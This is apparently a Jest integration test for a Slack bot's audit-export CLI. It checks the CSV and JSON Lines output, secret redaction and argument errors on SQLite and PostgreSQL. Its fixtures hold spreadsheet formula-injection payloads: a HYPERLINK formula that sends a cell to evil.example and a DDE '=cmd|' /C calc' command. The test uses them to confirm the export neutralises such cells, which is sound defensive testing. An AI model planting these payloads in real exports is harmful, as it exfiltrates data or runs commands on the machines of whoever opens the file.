// `npm run audit` as a compliance reviewer runs it: the compiled entry as a child process, against a seeded SQLite
// file (settings from a .env, as the bot reads them) and a seeded PostgreSQL schema; its CSV and JSON Lines parsed
// back. Whatever it prints, no secret is in it.
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { DeletionOutcome } from '../../../src/requests/types';
import { PostgresStore } from '../../../src/store/dialects/postgres';
import { SqliteStore } from '../../../src/store/dialects/sqlite';
import type { Store } from '../../../src/store/types';
import { csvObjects } from '../../helpers/csv';
import { anApproval } from '../../helpers/fixtures';
import { buildAudit, postgresSchema } from '../../helpers/processes';

jest.setTimeout(60_000);

const PG_URL = process.env.TEST_DATABASE_URL;

const SECRETS = {
  SLACK_BOT_TOKEN: 'xoxb-audit-0000-do-not-print',
  SLACK_SIGNING_SECRET: 'audit-signing-secret-5f2c9e',
  BOTPENGUIN_API_TOKEN: 'bp-audit-token-7d1a4b',
};

const at = (iso: string) => Date.parse(iso);
const MINUTE = 60_000;
const TRICKY_REASON = 'customer wrote: "delete it, now"\nline two\r\nline three';
const FORMULA_REASON = '=HYPERLINK("http://evil.example/?d="&A1,"click")';
const DENY_REASON = '-1, not without a ticket';
const PASTED_TOKEN_REASON = `pasted ${SECRETS.SLACK_BOT_TOKEN} by mistake in a test`;
/** The audit's bypass: a cell of its own, starting with `=`, for a spreadsheet that splits on `;`. */
const SEMICOLON_REASON = "ticket 42;=cmd|' /C calc'!A0";
const DELETED: DeletionOutcome = {
  ok: true,
  kind: 'deleted',
  said: 'botpenguin',
  message: 'Customer deleted',
  httpStatus: 200,
  attempts: 1,
};
const FAILED: DeletionOutcome = {
  ok: false,
  kind: 'http_error',
  said: 'botpenguin',
  message: 'BotPenguin answered 502 Bad Gateway',
  httpStatus: 502,
  attempts: 3,
};
/** More than two pages of the export (500 a page), with ties on created_at across the page boundaries. */
const BULK = 1001;
const bulkId = (i: number) => `RB${String(i).padStart(5, '0')}`;

async function make(
  store: Store,
  id: string,
  createdAt: string,
  over: { reason?: string; approvals?: number; ticket?: string } = {},
) {
  const t = at(createdAt);
  const result = await store.createRequest(
    {
      id,
      teamId: 'T0AUDIT',
      channelId: 'C0AUDIT',
      customerId: `cust-${id}`,
      reason: over.reason ?? 'closing the account',
      ticket: over.ticket ?? null,
      requesterId: 'UREQ',
      approvalsRequired: over.approvals ?? 1,
      createdAt: t,
      expiresAt: t + 24 * 60 * MINUTE,
      dryRun: false,
    },
    { kind: 'requested', actorId: 'UREQ', detail: over.reason ?? 'closing the account', at: t },
    { maxOpenPerRequester: 1_000_000 },
  );
  if (!result.ok) throw new Error(`${id} was not created`);
  return t;
}

async function execute(store: Store, id: string, t: number, outcome: DeletionOutcome) {
  await store.transition(
    id,
    ['approved'],
    'executing',
    {},
    { kind: 'delete_sent', actorId: null, detail: null, at: t },
  );
  const done = await store.transition(
    id,
    ['executing'],
    outcome.ok ? 'succeeded' : 'failed',
    { outcome, finishedAt: t + MINUTE },
    { kind: outcome.ok ? 'deleted' : 'failed', actorId: null, detail: outcome.message, at: t + MINUTE },
  );
  if (!done) throw new Error(`${id} did not finish`);
}

async function seed(store: Store): Promise<void> {
  await store.migrate();
  await make(store, 'RBEFORE', '2026-10-31T23:59:59.999Z');
  const done = await make(store, 'RDONE', '2026-11-01T00:00:00.000Z', {
    reason: TRICKY_REASON,
    approvals: 2,
    ticket: 'DSR-42',
  });
  await store.addApproval('RDONE', anApproval('UAPP1', done + MINUTE));
  await store.addApproval('RDONE', anApproval('UAPP2', done + 2 * MINUTE));
  // The store sets executeAt by the database's clock (today); the history being seeded had it then.
  await store.transition('RDONE', ['approved'], 'approved', { executeAt: done + 2 * MINUTE }, null);
  await execute(store, 'RDONE', done + 3 * MINUTE, DELETED);
  const denied = await make(store, 'RDENIED', '2026-11-15T00:00:00.000Z', { reason: FORMULA_REASON });
  await store.transition(
    'RDENIED',
    ['pending'],
    'denied',
    { closedBy: 'UDEN', closedFrom: 'C0ELSEWHERE', closeReason: DENY_REASON, finishedAt: denied + MINUTE },
    { kind: 'denied', actorId: 'UDEN', detail: DENY_REASON, at: denied + MINUTE },
  );
  const failed = await make(store, 'RFAILED', '2026-11-20T12:00:00.000Z', { reason: SEMICOLON_REASON });
  await store.addApproval('RFAILED', anApproval('UAPP1', failed + MINUTE));
  await execute(store, 'RFAILED', failed + 2 * MINUTE, FAILED);
  await make(store, 'RSECRET', '2026-11-21T08:00:00.000Z', { reason: PASTED_TOKEN_REASON });
  await make(store, 'RAFTER', '2026-12-01T00:00:00.000Z');
  const base = at('2025-01-01T00:00:00.000Z');
  for (let i = 0; i < BULK; i++) {
    await make(store, bulkId(i), new Date(base + Math.floor(i / 3) * 1000).toISOString());
  }
}

interface Target {
  /** Settings to give the process, beyond PATH (and, for SQLite, beyond its .env). */
  env: Record<string, string>;
  /** Where it runs; the SQLite target's holds a .env with its settings and the bot's secrets. */
  cwd: string;
  /** Values that must never be printed. */
  secrets: string[];
  /** The store setting alone, with no Slack or BotPenguin token anywhere. */
  storeOnly: Record<string, string>;
  cleanup(): Promise<void>;
}

async function sqliteTarget(): Promise<Target> {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'bp-audit-'));
  const file = path.join(dir, 'bp-delete.sqlite');
  const store = new SqliteStore(file);
  await seed(store);
  await store.close();
  const cwd = path.join(dir, 'run');
  fs.mkdirSync(cwd);
  const dotenv = { SQLITE_PATH: file, ...SECRETS };
  fs.writeFileSync(
    path.join(cwd, '.env'),
    Object.entries(dotenv)
      .map(([k, v]) => `${k}=${v}\n`)
      .join(''),
  );
  return {
    env: {},
    cwd,
    secrets: Object.values(SECRETS),
    storeOnly: { SQLITE_PATH: file },
    cleanup: async () => fs.rmSync(dir, { recursive: true, force: true }),
  };
}

async function postgresTarget(url: string): Promise<Target> {
  const schema = await postgresSchema(url);
  const store = new PostgresStore({ connectionString: schema.databaseUrl, poolMax: 2 });
  try {
    await seed(store);
  } finally {
    await store.close();
  }
  const cwd = fs.mkdtempSync(path.join(os.tmpdir(), 'bp-audit-pg-'));
  // A test database's short password (the server trusts local connections and ignores it): it must not rewrite
  // the word "test" in the reasons.
  const withPassword = new URL(schema.databaseUrl);
  withPassword.password = 'test';
  return {
    env: { DATABASE_URL: withPassword.toString(), ...SECRETS },
    cwd,
    secrets: [...Object.values(SECRETS), schema.databaseUrl, withPassword.toString()],
    storeOnly: { DATABASE_URL: withPassword.toString() },
    cleanup: async () => {
      fs.rmSync(cwd, { recursive: true, force: true });
      await schema.drop();
    },
  };
}

let entry: string;
beforeAll(() => {
  entry = buildAudit();
});

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
}

/** `node dist/audit.js …` with this environment and nothing else of ours (PATH aside), in `cwd`. */
function runAudit(args: string[], env: Record<string, string>, cwd?: string): Promise<Run> {
  const dir = cwd ?? fs.mkdtempSync(path.join(os.tmpdir(), 'bp-audit-cwd-'));
  const child = spawn(process.execPath, [entry, ...args], {
    cwd: dir,
    env: { PATH: process.env.PATH ?? '', ...env },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let stdout = '';
  let stderr = '';
  child.stdout.setEncoding('utf8').on('data', (chunk: string) => {
    stdout += chunk;
  });
  child.stderr.setEncoding('utf8').on('data', (chunk: string) => {
    stderr += chunk;
  });
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => {
      child.kill('SIGKILL');
      reject(new Error(`the audit export did not finish:\n${stderr}`));
    }, 45_000);
    child.once('close', (code) => {
      clearTimeout(timer);
      resolve({ code, stdout, stderr });
    });
  });
}

function expectNoSecret(run: Run, secrets: readonly string[]) {
  for (const secret of secrets) {
    expect(run.stdout).not.toContain(secret);
    expect(run.stderr).not.toContain(secret);
  }
}

const CSV_HEADER = [
  'request_id',
  'customer_id',
  'team_id',
  'channel_id',
  'requester_id',
  'reason',
  'ticket',
  'state',
  'approvals_required',
  'dry_run',
  'created_at',
  'expires_at',
  'execute_at',
  'finished_at',
  'closed_by',
  'closed_from',
  'close_reason',
  'delete_starts',
  'delete_started_at',
  'outcome_ok',
  'outcome_kind',
  'outcome_message',
  'outcome_http_status',
  'outcome_attempts',
  'event_id',
  'event_kind',
  'event_actor_id',
  'event_at',
  'event_detail',
]
  .map((name) => `"${name}"`)
  .join(',');

const jsonLines = (stdout: string) => {
  expect(stdout.endsWith('\n')).toBe(true);
  return stdout
    .slice(0, -1)
    .split('\n')
    .map((line) => JSON.parse(line) as Record<string, unknown> & { requestId: string; events: unknown[] });
};

const TARGETS: [string, () => Promise<Target>][] = [['sqlite', sqliteTarget]];
if (PG_URL) TARGETS.push(['postgres', () => postgresTarget(PG_URL)]);
else console.warn('PostgreSQL audit export tests skipped: TEST_DATABASE_URL is not set');

describe.each(TARGETS)('the audit export on %s', (_name, makeTarget) => {
  let target: Target;
  const run = async (args: string[], env: Record<string, string> = target.env) => {
    const result = await runAudit(args, env, target.cwd);
    expectNoSecret(result, target.secrets);
    return result;
  };

  beforeAll(async () => {
    target = await makeTarget();
  });
  afterAll(() => target?.cleanup());

  it('CSV (the default): one row per event with the request columns repeated, quoted as RFC 4180 says', async () => {
    const result = await run(['--since', '2026-11-01', '--until', '2026-12-01']);
    expect(result.stderr).toContain('4 request(s) with 12 event(s)');
    expect(result.code).toBe(0);
    expect(result.stdout.startsWith(`${CSV_HEADER}\r\n`)).toBe(true);
    const rows = csvObjects(result.stdout);
    expect(rows.map((r) => [r.request_id, r.event_kind])).toEqual([
      ['RDONE', 'requested'],
      ['RDONE', 'approved'],
      ['RDONE', 'approved'],
      ['RDONE', 'delete_sent'],
      ['RDONE', 'deleted'],
      ['RDENIED', 'requested'],
      ['RDENIED', 'denied'],
      ['RFAILED', 'requested'],
      ['RFAILED', 'approved'],
      ['RFAILED', 'delete_sent'],
      ['RFAILED', 'failed'],
      ['RSECRET', 'requested'],
    ]);

    const done = rows.filter((r) => r.request_id === 'RDONE');
    for (const row of done) {
      expect(row).toMatchObject({
        customer_id: 'cust-RDONE',
        team_id: 'T0AUDIT',
        channel_id: 'C0AUDIT',
        requester_id: 'UREQ',
        reason: TRICKY_REASON, // commas, quotes, LF and CRLF come back exactly
        ticket: 'DSR-42',
        state: 'succeeded',
        approvals_required: '2',
        dry_run: 'false',
        created_at: '2026-11-01T00:00:00.000Z',
        expires_at: '2026-11-02T00:00:00.000Z',
        execute_at: '2026-11-01T00:02:00.000Z',
        finished_at: '2026-11-01T00:04:00.000Z',
        closed_by: '',
        close_reason: '',
        delete_starts: '0',
        delete_started_at: '',
        outcome_ok: 'true',
        outcome_kind: 'deleted',
        outcome_message: 'Customer deleted',
        outcome_http_status: '200',
        outcome_attempts: '1',
      });
    }
    expect(done.map((r) => [r.event_actor_id, r.event_at, r.event_detail])).toEqual([
      ['UREQ', '2026-11-01T00:00:00.000Z', TRICKY_REASON],
      ['UAPP1', '2026-11-01T00:01:00.000Z', '1 of 2'],
      ['UAPP2', '2026-11-01T00:02:00.000Z', '2 of 2'],
      ['', '2026-11-01T00:03:00.000Z', ''],
      ['', '2026-11-01T00:04:00.000Z', 'Customer deleted'],
    ]);
    const eventIds = done.map((r) => Number(r.event_id));
    expect(eventIds.every((id, k) => Number.isInteger(id) && (k === 0 || id > eventIds[k - 1]))).toBe(true);
    expect(result.stdout).toContain('"customer wrote: ""delete it, now""\nline two\r\nline three"');

    // Cells a spreadsheet would run as formulas start with a single quote; nothing else is changed.
    const denied = rows.filter((r) => r.request_id === 'RDENIED');
    expect(denied.map((r) => r.reason)).toEqual([`'${FORMULA_REASON}`, `'${FORMULA_REASON}`]);
    expect(denied[1]).toMatchObject({
      state: 'denied',
      closed_by: 'UDEN',
      close_reason: `'${DENY_REASON}`,
      event_actor_id: 'UDEN',
      event_detail: `'${DENY_REASON}`,
      outcome_ok: '',
      finished_at: '2026-11-15T00:01:00.000Z',
    });
    const failed = rows.filter((r) => r.request_id === 'RFAILED');
    expect(failed[3]).toMatchObject({
      reason: "ticket 42;'=cmd|' /C calc'!A0",
      state: 'failed',
      outcome_ok: 'false',
      outcome_kind: 'http_error',
      outcome_message: 'BotPenguin answered 502 Bad Gateway',
      outcome_http_status: '502',
      outcome_attempts: '3',
      event_detail: 'BotPenguin answered 502 Bad Gateway',
    });
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    // Opened in a locale whose list separator is `;` (or `,`), split without honouring quotes: no cell starts a
    // formula, the audit's `;=cmd…` reason included.
    for (const separator of [',', ';']) {
      const cells = result.stdout.split('\r\n').flatMap((record) => record.split(separator));
      expect(cells.some((cell) => cell.includes('cmd|'))).toBe(true);
      for (const cell of cells) expect(cell.replace(/^"+/, '')).not.toMatch(/^[=+\-@\t\r]/);
    }

    // A secret pasted into a reason is redacted like everywhere else the bot prints.
    expect(rows.find((r) => r.request_id === 'RSECRET')?.reason).toBe('pasted [redacted] by mistake in a test');
  });

  it('JSON Lines: one request a line, with its events array and BotPenguin outcome', async () => {
    const result = await run(['--since', '2026-11-01', '--until', '2026-12-01', '--format', 'jsonl']);
    expect(result.code).toBe(0);
    const lines = jsonLines(result.stdout);
    expect(lines.map((l) => l.requestId)).toEqual(['RDONE', 'RDENIED', 'RFAILED', 'RSECRET']);
    expect(lines[0]).toEqual({
      requestId: 'RDONE',
      customerId: 'cust-RDONE',
      teamId: 'T0AUDIT',
      channelId: 'C0AUDIT',
      requesterId: 'UREQ',
      reason: TRICKY_REASON,
      ticket: 'DSR-42',
      state: 'succeeded',
      approvalsRequired: 2,
      dryRun: false,
      createdAt: '2026-11-01T00:00:00.000Z',
      expiresAt: '2026-11-02T00:00:00.000Z',
      executeAt: '2026-11-01T00:02:00.000Z',
      finishedAt: '2026-11-01T00:04:00.000Z',
      closedBy: null,
      closedFrom: null,
      closeReason: null,
      deleteStarts: 0,
      deleteStartedAt: null,
      outcome: DELETED,
      events: [
        {
          id: expect.any(Number),
          kind: 'requested',
          actorId: 'UREQ',
          at: '2026-11-01T00:00:00.000Z',
          detail: TRICKY_REASON,
        },
        {
          id: expect.any(Number),
          kind: 'approved',
          actorId: 'UAPP1',
          at: '2026-11-01T00:01:00.000Z',
          detail: '1 of 2',
        },
        {
          id: expect.any(Number),
          kind: 'approved',
          actorId: 'UAPP2',
          at: '2026-11-01T00:02:00.000Z',
          detail: '2 of 2',
        },
        { id: expect.any(Number), kind: 'delete_sent', actorId: null, at: '2026-11-01T00:03:00.000Z', detail: null },
        {
          id: expect.any(Number),
          kind: 'deleted',
          actorId: null,
          at: '2026-11-01T00:04:00.000Z',
          detail: 'Customer deleted',
        },
      ],
    });
    // JSON is no spreadsheet: text is exactly as recorded.
    expect(lines[1]).toMatchObject({
      reason: FORMULA_REASON,
      closedBy: 'UDEN',
      closedFrom: 'C0ELSEWHERE',
      closeReason: DENY_REASON,
    });
    expect(lines[2]).toMatchObject({ state: 'failed', outcome: FAILED });
    expect(lines[2].events.map((e) => (e as { kind: string }).kind)).toEqual([
      'requested',
      'approved',
      'delete_sent',
      'failed',
    ]);
    expect(lines[3]).toMatchObject({
      state: 'pending',
      reason: 'pasted [redacted] by mistake in a test',
      outcome: null,
    });
  });

  it('the window: --since is included, --until excluded, times may carry a zone; no --until runs to the newest', async () => {
    const ids = async (args: string[]) => {
      const result = await run([...args, '--format', 'jsonl']);
      expect(result.code).toBe(0);
      return result.stdout === '' ? [] : jsonLines(result.stdout).map((l) => l.requestId);
    };
    expect(await ids(['--since', '2026-10-31T23:59:59.999Z', '--until', '2026-11-01T00:00:00.001Z'])).toEqual([
      'RBEFORE',
      'RDONE',
    ]);
    expect(await ids(['--since', '2026-11-20T13:00:00+01:00'])).toEqual(['RFAILED', 'RSECRET', 'RAFTER']);
    expect(await ids(['--since=2026-11-20T12:00:00.001Z', '--until=2026-12-01T00:00:00Z'])).toEqual(['RSECRET']);
    expect(await ids(['--since', '2027-01-01'])).toEqual([]);
    const empty = await run(['--since', '2027-01-01']);
    expect(empty.stdout).toBe(`${CSV_HEADER}\r\n`);
  });

  it('streams page by page: more than two pages of requests, each once, oldest first', async () => {
    const result = await run(['--since', '2025-01-01', '--until', '2025-02-01', '--format', 'jsonl']);
    expect(result.code).toBe(0);
    expect(result.stderr).toContain(`${BULK} request(s) with ${BULK} event(s)`);
    expect(jsonLines(result.stdout).map((l) => l.requestId)).toEqual(Array.from({ length: BULK }, (_, i) => bulkId(i)));
  });

  it('needs nothing but the store setting: no Slack or BotPenguin token', async () => {
    const result = await runAudit(['--since', '2026-11-01', '--until', '2026-11-21', '--format', 'jsonl'], {
      ...target.storeOnly,
    });
    expectNoSecret(
      result,
      target.secrets.filter((s) => !Object.values(SECRETS).includes(s)),
    );
    expect(result.code).toBe(0);
    expect(jsonLines(result.stdout).map((l) => l.requestId)).toEqual(['RDONE', 'RDENIED', 'RFAILED']);
  });
});

describe('the audit export refuses clearly, exiting non-zero and printing nothing on stdout', () => {
  let dir: string;
  let file: string;
  beforeAll(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'bp-audit-args-'));
    file = path.join(dir, 'db.sqlite');
    const store = new SqliteStore(file);
    await store.migrate();
    await store.close();
  });
  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

  it.each([
    [['--since', '2026-02-30'], /--since: "2026-02-30" is not a date or time/],
    [['--since', '2026-11-01 10:00'], /--since: .* is not a date or time/],
    [['--since', '2026-11-01T10:00:00'], /--since: .* is not a date or time/], // no zone: ambiguous
    [['--since', '2026-11-01', '--until', 'tomorrow'], /--until: "tomorrow" is not a date or time/],
    [['--since', '2026-11-02', '--until', '2026-11-01'], /--until must be later than --since/],
    [['--since', '2026-11-01', '--format', 'xlsx'], /--format: "xlsx" is not one of csv, jsonl/],
    [[], /--since is required/],
    [['--since', '2026-11-01', '--everything'], /--everything/],
    [['--since', '2026-11-01', 'extra'], /extra/],
  ])('%j: a bad argument exits 2 with the reason and the usage', async (args, message) => {
    const result = await runAudit(args, { SQLITE_PATH: file, ...SECRETS });
    expect(result).toMatchObject({ code: 2, stdout: '' });
    expect(result.stderr).toMatch(message);
    expect(result.stderr).toContain('Usage: npm run audit -- --since');
    expectNoSecret(result, Object.values(SECRETS));
  });

  it('a DATABASE_URL that is no PostgreSQL URL: exits 2 naming the variable, not its value', async () => {
    const result = await runAudit(['--since', '2026-11-01'], { DATABASE_URL: 'mysql://root:hunter2-pw@db/x' });
    expect(result).toMatchObject({ code: 2, stdout: '' });
    expect(result.stderr).toContain('DATABASE_URL: must be a postgres:// or postgresql:// URL');
    expectNoSecret(result, ['hunter2-pw', 'mysql://']);
  });

  it('an unreachable PostgreSQL: exits 1 saying so, without the URL or its password', async () => {
    const url = 'postgres://auditor:pw-Secret-8842@127.0.0.1:1/none';
    const result = await runAudit(['--since', '2026-11-01'], { DATABASE_URL: url });
    expect(result).toMatchObject({ code: 1, stdout: '' });
    expect(result.stderr).toMatch(/could not reach PostgreSQL \(DATABASE_URL\): .*ECONNREFUSED/);
    expectNoSecret(result, [url, 'pw-Secret-8842']);
  });

  it('a SQLite file that does not exist: exits 1 and creates nothing', async () => {
    const missing = path.join(dir, 'nowhere', 'bp-delete.sqlite');
    const result = await runAudit(['--since', '2026-11-01'], { SQLITE_PATH: missing });
    expect(result).toMatchObject({ code: 1, stdout: '' });
    expect(result.stderr).toContain(`there is no SQLite file ${missing}`);
    expect(fs.existsSync(path.dirname(missing))).toBe(false);
  });

  it('a file that is no bp-delete database: exits 1 with the database error', async () => {
    const other = path.join(dir, 'other.sqlite');
    fs.writeFileSync(other, '');
    const result = await runAudit(['--since', '2026-11-01'], { SQLITE_PATH: other });
    expect(result).toMatchObject({ code: 1, stdout: '' });
    expect(result.stderr).toMatch(/could not read the requests from SQLite file .*no such table: requests/);
  });

  it('--help prints the usage on stdout and exits 0', async () => {
    const result = await runAudit(['--help'], {});
    expect(result.code).toBe(0);
    expect(result.stdout).toContain('Usage: npm run audit -- --since');
  });
});
